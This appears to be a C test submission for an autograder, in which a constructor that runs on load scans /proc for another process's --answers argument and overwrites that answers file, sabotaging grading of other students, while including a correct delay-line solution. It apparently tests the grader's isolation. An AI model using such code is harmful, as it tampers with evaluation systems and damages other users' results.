/* An attack on the other students: a constructor looks for the answers
   file (an --answers argument in its own command line or its parent's, or
   where the grader keeps it, @ANSWERS@ here) and rewrites it, so that the
   students graded after it fail.  Its own delay line is correct.
   fails: none */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static void spoil(const char* path) {
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd >= 0) { if (write(fd, "grade-answers 2\ncheck 0 1 1 unit 0 - spoilt\n", 44) < 0) {} close(fd); }
    else { FILE* f = fopen(path, "w"); if (f) { fputs("spoilt\n", f); fclose(f); } }
}
static void from_cmdline(const char* proc) {
    char buf[8192];
    int fd = open(proc, O_RDONLY);
    ssize_t n, i;
    if (fd < 0) return;
    n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return;
    buf[n] = 0;
    for (i = 0; i < n; i += (ssize_t)strlen(buf + i) + 1)
        if (strcmp(buf + i, "--answers") == 0 && i + 10 < n) spoil(buf + i + 10);
}
__attribute__((constructor)) static void rewrite_answers(void) {
    char path[64];
    DIR* d = opendir("/proc");
    struct dirent* e;
    from_cmdline("/proc/self/cmdline");
    snprintf(path, sizeof path, "/proc/%d/cmdline", (int)getppid());
    from_cmdline(path);
    while (d && (e = readdir(d)) != NULL) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%.20s/cmdline", e->d_name);
        from_cmdline(path);
    }
    if (d) closedir(d);
    spoil("@ANSWERS@");
}
#include "../1_latency/right.c"
